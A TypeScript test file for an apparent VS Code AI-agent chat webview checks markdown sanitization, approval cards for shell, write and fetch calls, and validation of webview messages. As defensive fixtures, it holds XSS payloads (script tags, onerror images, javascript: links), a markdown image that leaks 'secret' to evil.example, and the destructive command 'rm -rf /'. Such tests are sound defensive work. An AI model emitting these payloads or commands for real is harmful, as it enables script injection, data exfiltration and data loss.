// The webview's drawing, in a DOM (jsdom): model output is sanitized, and cards carry what the user must see.
import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import { JSDOM } from 'jsdom';
import { initialState, reduce, replay, type ChatState } from '../src/common/state';
import { createMarkdownRenderer, type RenderMarkdown } from '../src/webview/markdown';
import { createPlanPanel, drawPlan } from '../src/webview/plan';
import { renderItem, type RenderContext } from '../src/webview/render';
import type { ResultData } from '../src/protocol';
import { recorded, turn } from './helpers';

let markdown: RenderMarkdown;
let ctx: RenderContext;

before(() => {
  const dom = new JSDOM('<!DOCTYPE html><body></body>');
  (globalThis as { document?: Document }).document = dom.window.document;
  markdown = createMarkdownRenderer(dom.window as unknown as Window & typeof globalThis);
  ctx = { markdown, expanded: new Set() };
});

const draw = (state: ChatState) => {
  const root = document.createElement('div');
  for (const item of state.items) root.append(renderItem(item, ctx));
  return root;
};

describe('markdown from the model', () => {
  it('renders formatting and code blocks with a copy button', () => {
    const html = markdown('Hello **there**\n\n```py\nprint("<b>")\n```\n');
    assert.match(html, /<strong>there<\/strong>/);
    assert.match(html, /data-action="copyCode"/);
    assert.match(html, /class="language-py"/);
    assert.match(html, /print\(&quot;&lt;b&gt;&quot;\)|print\("&lt;b&gt;"\)/);
  });

  it('never lets HTML, scripts or javascript: links through', () => {
    const root = document.createElement('div');
    root.innerHTML = markdown('<script>alert(1)</script> <img src=x onerror=alert(1)> [x](javascript:alert(1)) ' +
      '<iframe src="https://e"></iframe> ![t](https://evil.example/x.png?q=secret) <a href="javascript:alert(1)">a</a>');
    assert.equal(root.querySelectorAll('script, iframe, object, embed, style, form, img').length, 0);
    assert.equal(root.querySelectorAll('[onerror], [onclick], [style]').length, 0);
    assert.equal([...root.querySelectorAll('a')].filter((a) => /^\s*javascript:/i.test(a.getAttribute('href') ?? '')).length, 0);
    assert.match(root.textContent ?? '', /<script>alert\(1\)<\/script>/, 'raw HTML is shown as text');
  });

  it('keeps links, which the view opens through the extension', () => {
    assert.match(markdown('see [docs](https://example.com) and src/a.py'), /<a href="https:\/\/example.com">docs<\/a>/);
  });
});

describe('cards', () => {
  it('a tool card shows its name, target, status, duration and (when opened) arguments and output', () => {
    const state = turn('go', recorded('tool-round-trip'));
    const root = draw(state);
    const card = root.querySelector('[data-testid="tool-card"]') as HTMLElement;
    assert.equal(card.dataset.status, 'ok');
    assert.equal(card.dataset.tool, 'read_file');
    assert.match(card.textContent ?? '', /Read\s*a\.txt/);
    assert.ok(card.querySelector('[data-testid="tool-duration"]'));
    assert.equal((card.querySelector('.tool-body') as HTMLElement).hidden, true);
    ctx.expanded.add('call_1');
    const open = draw(state).querySelector('[data-testid="tool-card"]')!;
    assert.equal(open.querySelector('[data-testid="tool-output"]')?.textContent, 'hello from a\n');
    ctx.expanded.clear();
  });

  it('an approval card for a shell call shows the exact command and cwd, with the three answers', () => {
    const base = { session: 's', turn: 't' };
    let state = turn('run it', [{ ...base, seq: 0, type: 'toolCall', callId: 'c1', name: 'run_command', arguments: { command: 'rm -rf build && make', cwd: 'sub' } }]);
    state = reduce(state, { type: 'approvalRequested', params: { ...base, callId: 'c1', name: 'run_command',
      arguments: { command: 'rm -rf build && make', cwd: 'sub' }, risk: 'shell', preview: { kind: 'command', command: 'rm -rf build && make', cwd: 'sub' } } });
    const card = draw(state).querySelector('[data-testid="approval-card"]') as HTMLElement;
    assert.equal(card.dataset.state, 'pending');
    assert.equal(card.querySelector('[data-testid="approval-command"]')?.textContent, 'rm -rf build && make');
    assert.match(card.querySelector('[data-testid="approval-cwd"]')?.textContent ?? '', /sub/);
    for (const id of ['approval-allow', 'approval-allow-session', 'approval-deny']) assert.ok(card.querySelector(`[data-testid="${id}"]`), id);
    assert.equal(card.querySelector('[data-testid="approval-show-diff"]'), null);
    assert.equal((card.closest('[data-call-id]') as HTMLElement).dataset.callId, 'c1');
  });

  it('an approval card for a write offers Show diff and a diff stat; once answered it says how', () => {
    const base = { session: 's', turn: 't' };
    let state = turn('write', [{ ...base, seq: 0, type: 'toolCall', callId: 'w1', name: 'write_file', arguments: { path: 'b.txt', content: 'x\ny\n' } }]);
    state = reduce(state, { type: 'approvalRequested', params: { ...base, callId: 'w1', name: 'write_file',
      arguments: { path: 'b.txt', content: 'x\ny\n' }, risk: 'write', preview: { kind: 'diff', path: 'b.txt', before: 'x\n', after: 'x\ny\n' } } });
    let card = draw(state).querySelector('[data-testid="approval-card"]')!;
    assert.ok(card.querySelector('[data-testid="approval-show-diff"]'));
    assert.match(card.querySelector('[data-testid="approval-diffstat"]')?.textContent ?? '', /\+1 −0/);
    state = reduce(state, { type: 'approvalAnswered', callId: 'w1', decision: 'deny' });
    card = draw(state).querySelector('[data-testid="approval-card"]')!;
    assert.equal(card.querySelector('[data-testid="approval-allow"]'), null);
    assert.match(card.querySelector('[data-testid="approval-result"]')?.textContent ?? '', /Denied/);
  });

  it('an approval card for a write that names a remote schema says VS Code will fetch it; others say nothing', () => {
    const base = { session: 's', turn: 't' };
    const url = 'https://schemas.evil.example/s.json';
    let state = turn('write', [{ ...base, seq: 0, type: 'toolCall', callId: 'w1', name: 'write_file', arguments: { path: 'a.json', content: '{}' } },
      { ...base, seq: 1, type: 'toolCall', callId: 'w2', name: 'write_file', arguments: { path: 'b.json', content: '{}' } }]);
    for (const [callId, path, remoteSchema] of [['w1', 'a.json', url], ['w2', 'b.json', null]] as const) {
      state = reduce(state, { type: 'approvalRequested', params: { ...base, callId, name: 'write_file', arguments: { path, content: '{}' },
        risk: 'write', preview: { kind: 'diff', path, before: null, after: '{}', remoteSchema } } });
    }
    const [named, plain] = draw(state).querySelectorAll('[data-testid="approval-card"]');
    const line = named.querySelector('[data-testid="approval-remote-schema"]');
    assert.equal(line?.querySelector('code')?.textContent, url);
    assert.match(line?.textContent ?? '', /This file names a remote schema: .* VS Code will fetch it when the file is opened/);
    assert.equal(plain.querySelector('[data-testid="approval-remote-schema"]'), null);
  });

  it('an approval card for a fetch shows the host first, then the whole URL as text; Allow host for session', () => {
    const base = { session: 's', turn: 't' };
    const url = 'http://docs.example.invalid/page?q=' + 'x'.repeat(300);
    let state = turn('fetch', [{ ...base, seq: 0, type: 'toolCall', callId: 'f1', name: 'web_fetch', arguments: { url } }]);
    state = reduce(state, { type: 'approvalRequested', params: { ...base, callId: 'f1', name: 'web_fetch', arguments: { url },
      risk: 'network', preview: { kind: 'fetch', url, host: 'docs.example.invalid' } } });
    let card = draw(state).querySelector('[data-testid="approval-card"]') as HTMLElement;
    assert.equal(card.dataset.risk, 'network');
    const host = card.querySelector('[data-testid="approval-host"]')!;
    const shownUrl = card.querySelector('[data-testid="approval-url"]')!;
    assert.equal(host.textContent, 'docs.example.invalid');
    assert.ok(host.compareDocumentPosition(shownUrl) & 4, 'the host comes before the URL');
    assert.equal(shownUrl.textContent, url);
    assert.equal(card.querySelectorAll('a').length, 0, 'the URL is text, not a link');
    assert.match(card.querySelector('[data-testid="approval-risk"]')?.textContent ?? '', /network/);
    const session = card.querySelector('[data-testid="approval-allow-session"]') as HTMLElement;
    assert.equal(session.textContent, 'Allow host for session');
    assert.match(session.title, /docs\.example\.invalid/);
    state = reduce(state, { type: 'approvalAnswered', callId: 'f1', decision: 'allowSession' });
    card = draw(state).querySelector('[data-testid="approval-card"]') as HTMLElement;
    assert.match(card.querySelector('[data-testid="approval-result"]')?.textContent ?? '', /Allowed docs\.example\.invalid for this session/);
  });

  it('a web_fetch card links to the page by its title, with its host, from its data; other results show as before', () => {
    const base = { session: 's', turn: 't' };
    const fetched = (callId: string, output: string, data?: ResultData) => [
      { ...base, seq: 0, type: 'toolCall' as const, callId, name: 'web_fetch', arguments: { url: 'http://127.0.0.1:8123/page.html' } },
      { ...base, seq: 1, type: 'toolResult' as const, callId, name: 'web_fetch', ok: true, output, error: null, durationMs: 12,
        ...(data ? { data } : {}) },
    ];
    const page = 'URL: http://127.0.0.1:8123/page.html\nTitle: The <b>test</b> page\nThe text below…\n\n# Hi';
    const root = draw(turn('fetch', [
      ...fetched('p1', page, { kind: 'webPage', url: 'http://127.0.0.1:8123/page.html', host: '127.0.0.1', title: 'The <b>test</b> page' }),
      ...fetched('p2', 'http://a.example/ redirects to http://b.example/, another host, which was not fetched.'),
      ...fetched('p3', page),  // the same text without its data (an older engine): no card is read out of the text
    ]));
    const [pageCard, redirect, textOnly] = [...root.querySelectorAll('[data-testid="tool-card"]')];
    assert.equal(textOnly.querySelector('[data-testid="web-result"]'), null);
    const link = pageCard.querySelector('[data-testid="page-link"]') as HTMLAnchorElement;
    assert.equal(link.getAttribute('href'), 'http://127.0.0.1:8123/page.html');
    assert.equal(link.textContent, 'The <b>test</b> page', 'the title is text');
    assert.equal(pageCard.querySelector('[data-testid="page-host"]')?.textContent, '127.0.0.1');
    assert.equal(redirect.querySelector('[data-testid="web-result"]'), null);
    assert.match(pageCard.querySelector('[data-testid="tool-head"]')?.textContent ?? '', /Fetch\s*http:\/\/127\.0\.0\.1:8123\/page\.html/);
  });

  it('a web_search card lists its hits as links, from its data', () => {
    const base = { session: 's', turn: 't' };
    const output = "1 results for 'x' (snippets…):\n\n1. Example\n   https://example.com/a\n   a snippet";
    const data: ResultData = { kind: 'webSearch', query: 'x', hits: [
      { title: 'Example', url: 'https://example.com/a', host: 'example.com', snippet: 'a snippet' }] };
    const root = draw(turn('search', [
      { ...base, seq: 0, type: 'toolCall', callId: 's1', name: 'web_search', arguments: { query: 'x' } },
      { ...base, seq: 1, type: 'toolResult', callId: 's1', name: 'web_search', ok: true, output, error: null, durationMs: 5, data },
    ]));
    const hits = [...root.querySelectorAll('[data-testid="search-hit"] a')].map((a) => [a.textContent, a.getAttribute('href')]);
    assert.deepEqual(hits, [['Example', 'https://example.com/a']]);
  });

  it('a learned API card says what it asked and what came back; a sub-agent card shows its answer as markdown', () => {
    const base = { session: 's', turn: 't' };
    const api: ResultData = { kind: 'apiAnswer', api: 'pets', method: 'GET', url: 'https://pets.example/v1/pets/1',
      status: 200, contentType: 'application/json' };
    const answer: ResultData = { kind: 'subagent', description: 'Find it', answer: 'In **src/a.py** <img src=x onerror=alert(1)>' };
    const root = draw(turn('go', [
      { ...base, seq: 0, type: 'toolCall', callId: 'a1', name: 'pets__get_pet', arguments: { id: 1 } },
      { ...base, seq: 1, type: 'toolResult', callId: 'a1', name: 'pets__get_pet', ok: true, output: 'HTTP 200 from GET …',
        error: null, durationMs: 5, data: api },
      { ...base, seq: 2, type: 'toolCall', callId: 't1', name: 'task', arguments: { description: 'Find it', prompt: 'p' } },
      { ...base, seq: 3, type: 'toolResult', callId: 't1', name: 'task', ok: true, output: 'In **src/a.py**', error: null,
        durationMs: 5, data: answer },
    ]));
    const [apiCard, taskCard] = [...root.querySelectorAll('[data-testid="tool-card"]')];
    assert.equal(apiCard.querySelector('[data-testid="api-request"]')?.textContent, 'GET https://pets.example/v1/pets/1');
    assert.equal(apiCard.querySelector('[data-testid="api-status"]')?.textContent, 'HTTP 200');
    assert.equal(apiCard.querySelectorAll('a').length, 0, 'an API URL is text, not a link');
    const shown = taskCard.querySelector('[data-testid="subagent-answer"]') as HTMLElement;
    assert.equal(shown.querySelector('strong')?.textContent, 'src/a.py');
    assert.equal(shown.querySelectorAll('img, [onerror]').length, 0, 'the answer is sanitized like any model text');
    assert.equal(taskCard.querySelector('[data-testid="tool-output"]'), null);
  });

  it('a replayed call a person answered says how; one a policy decided says nothing more', () => {
    const base = { session: 's', turn: 't' };
    const call = (callId: string) => ({ ...base, seq: 1, type: 'toolCall' as const, callId, name: 'write_file', arguments: { path: 'b.txt' } });
    const state = replay(initialState(), 's', [
      { ...base, seq: 0, type: 'userMessage', text: 'write' },
      call('u1'), { ...base, seq: 2, type: 'approval', callId: 'u1', decision: 'deny', by: 'user' },
      call('p1'), { ...base, seq: 3, type: 'approval', callId: 'p1', decision: 'allow', by: 'policy' },
      { ...base, seq: 4, type: 'done', status: 'completed', toolCalls: 2, usage: null },
    ]);
    const [byUser, byPolicy] = [...draw(state).querySelectorAll('[data-testid="tool-card"]')];
    assert.match(byUser.querySelector('[data-testid="approval-result"]')?.textContent ?? '', /Denied/);
    assert.equal(byUser.querySelector('[data-testid="approval-show-diff"]'), null);
    assert.equal(byPolicy.querySelector('[data-testid="approval-card"]'), null);
  });

  it('a cancelled turn says it was stopped; a failed one shows the error', () => {
    const base = { session: 's', turn: 't' };
    const stopped = draw(turn('go', [{ ...base, seq: 0, type: 'done', status: 'cancelled', toolCalls: 0, usage: null }]));
    assert.match(stopped.querySelector('[data-testid="turn-end"]')?.textContent ?? '', /Stopped/);
    const failed = draw(turn('go', recorded('cut-stream')));
    assert.match(failed.querySelector('[data-testid="turn-end"]')?.textContent ?? '', /lost mid-answer/);
  });
});

describe('messages from the webview', () => {
  it('are checked against the tagged union before the host acts on them', async () => {
    const { isWebviewMessage } = await import('../src/common/messages');
    assert.equal(isWebviewMessage({ type: 'send', text: 'hi' }), true);
    assert.equal(isWebviewMessage({ type: 'approve', callId: 'c', decision: 'allow' }), true);
    assert.equal(isWebviewMessage({ type: 'runShell', command: 'rm -rf /' }), false);
    assert.equal(isWebviewMessage('send'), false);
    assert.equal(isWebviewMessage(null), false);
    assert.equal(isWebviewMessage({ type: 'approve', callId: 'c', decision: 'always' }), false);
    assert.equal(isWebviewMessage({ type: 'send' }), false);
    assert.equal(isWebviewMessage({ type: 'toString' }), false);
  });
});

describe('the pinned plan', () => {
  it('shows 2/5-style progress and the step in progress, highlighted, as text only', () => {
    const panel = createPlanPanel();
    drawPlan(panel, null);
    assert.equal(panel.hidden, true);
    const state = turn('go', recorded('plan'));
    drawPlan(panel, state.plan);
    assert.equal(panel.hidden, false);
    assert.equal(panel.querySelector('[data-testid="plan-count"]')?.textContent, '1/2');
    assert.equal(panel.querySelector('[data-testid="plan-current"]')?.textContent, 'Summarise it');
    const steps = [...panel.querySelectorAll<HTMLElement>('[data-testid="plan-step"]')];
    assert.deepEqual(steps.map((s) => [s.dataset.status, s.textContent, s.getAttribute('aria-current')]),
      [['done', 'Read a.txt', null], ['in_progress', 'Summarise it', 'step']]);
    assert.match(panel.textContent ?? '', /a\.txt is short/);
  });

  it('keeps being open or closed across updates, and never renders a step as HTML', () => {
    const panel = createPlanPanel();
    drawPlan(panel, { items: [{ step: 'a', status: 'in_progress' }], explanation: null });
    panel.open = true;
    drawPlan(panel, { items: [{ step: '<img src=x onerror=alert(1)>', status: 'done' }], explanation: null });
    assert.equal(panel.open, true);
    assert.equal(panel.querySelectorAll('img').length, 0);
    assert.equal(panel.querySelector('[data-testid="plan-current"]')?.textContent, 'All steps done');
  });
});
